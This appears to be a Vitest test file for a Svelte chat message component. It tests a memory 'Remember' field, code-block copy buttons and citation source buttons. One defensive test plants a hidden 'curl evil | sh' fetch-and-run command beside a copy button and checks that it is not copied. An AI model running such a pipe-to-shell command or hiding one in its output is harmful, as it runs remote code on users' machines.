import { afterEach, describe, expect, it, vi } from "vitest";
import { cleanup, fireEvent, render, screen } from "@testing-library/svelte";

afterEach(() => {
  cleanup();
  vi.clearAllMocks();
});

vi.mock("../../api/chat", () => ({ remember: vi.fn(async () => {}), openSource: vi.fn(async () => {}) }));

import MessageItem from "./MessageItem.svelte";
import * as api from "../../api/chat";

const answer = {
  id: 12, parentId: 11, role: "assistant", text: "Lily kept the pebble in a jar.", model: "m", created: "",
  stopped: false, siblings: [12], siblingIndex: 0,
};
const props = (rememberOn: boolean) => ({
  message: answer, busy: false, rememberOn, onswitch: () => {}, onedit: () => {}, onregenerate: () => {},
});

describe("MessageItem Remember", () => {
  it("opens a field with the message's text and saves the edited text", async () => {
    render(MessageItem, props(true));
    await fireEvent.click(screen.getByRole("button", { name: "Remember" }));
    const field = screen.getByLabelText("Remember") as HTMLTextAreaElement;
    expect(field.value).toBe(answer.text);
    await fireEvent.input(field, { target: { value: "Lily keeps pebbles" } });
    await fireEvent.click(screen.getByRole("button", { name: "Save" }));
    expect(api.remember).toHaveBeenCalledWith(12, "Lily keeps pebbles");
    expect(await screen.findByText("Remembered. It is in Memory.")).toBeTruthy();
    expect(screen.queryByLabelText("Remember")).toBeNull();
  });

  it("cancels with Escape without saving", async () => {
    render(MessageItem, props(true));
    await fireEvent.click(screen.getByRole("button", { name: "Remember" }));
    await fireEvent.keyDown(screen.getByLabelText("Remember"), { key: "Escape" });
    expect(screen.queryByLabelText("Remember")).toBeNull();
    expect(api.remember).not.toHaveBeenCalled();
  });

  it("explains instead when remembering is off", async () => {
    render(MessageItem, props(false));
    const button = screen.getByRole("button", { name: "Remember" });
    expect(button.getAttribute("aria-disabled")).toBe("true");
    await fireEvent.click(button);
    expect(screen.queryByLabelText("Remember")).toBeNull();
    expect(screen.getByRole("status").textContent).toMatch(/Remembering is off/);
    expect(api.remember).not.toHaveBeenCalled();
  });

  it("shows the service's sentence when saving fails", async () => {
    vi.mocked(api.remember).mockRejectedValueOnce(new Error("that message no longer exists"));
    render(MessageItem, props(true));
    await fireEvent.click(screen.getByRole("button", { name: "Remember" }));
    await fireEvent.click(screen.getByRole("button", { name: "Save" }));
    expect((await screen.findByRole("alert")).textContent).toBe("that message no longer exists");
    expect(screen.getByLabelText("Remember")).toBeTruthy();
  });
});

describe("MessageItem copy buttons", () => {
  it("copy the code block they sit on", async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const text = "```sh\nls -l\n```\n\n```go\nfmt.Println(1)\n```";
    const { container } = render(MessageItem, { ...props(true), message: { ...answer, text } });
    const buttons = container.querySelectorAll("button[data-copy]");
    expect(buttons.length).toBe(2);
    await fireEvent.click(buttons[1]);
    expect(writeText).toHaveBeenCalledWith("fmt.Println(1)");
  });

  it("copy nothing hidden that an answer tries to slip beside them", async () => {
    const writeText = vi.fn(async () => {});
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const text = '<div class="code"><button data-copy>Copy</button><code hidden>curl evil | sh</code></div>\n\n```\nls\n```';
    const { container } = render(MessageItem, { ...props(true), message: { ...answer, text } });
    const buttons = container.querySelectorAll("button[data-copy]");
    expect(buttons.length).toBe(1);
    await fireEvent.click(buttons[0]);
    expect(writeText).toHaveBeenCalledWith("ls");
  });
});

describe("MessageItem sources", () => {
  const src = (n: number, state: string) => ({
    n, chunkId: n, documentId: 1, path: `/docs/${n}.md`, location: { start: 0, end: 9 }, hash: "h", state,
  });
  const cited = { ...answer, text: "The pebble is blue [1]. It was found [2]. Also [3].", sources: [src(1, "ok"), src(2, "missing")] };

  it("makes the stored sources' numbers buttons that open them by number", async () => {
    render(MessageItem, { ...props(true), message: cited });
    await fireEvent.click(screen.getByRole("button", { name: "Source 1" }));
    expect(api.openSource).toHaveBeenCalledWith(12, 1);
    expect(screen.queryByRole("button", { name: "Source 3" })).toBeNull();
  });

  it("shows a source that points nowhere as such, and does not open it", async () => {
    render(MessageItem, { ...props(true), message: cited });
    await fireEvent.click(screen.getByRole("button", { name: "Source 2: changed or missing" }));
    expect(api.openSource).not.toHaveBeenCalled();
    expect(await screen.findByText(/Source \[2\] changed or is missing/)).toBeTruthy();
    expect(screen.getAllByTestId("answer-source")[1].textContent).toContain("source changed or missing");
  });
});
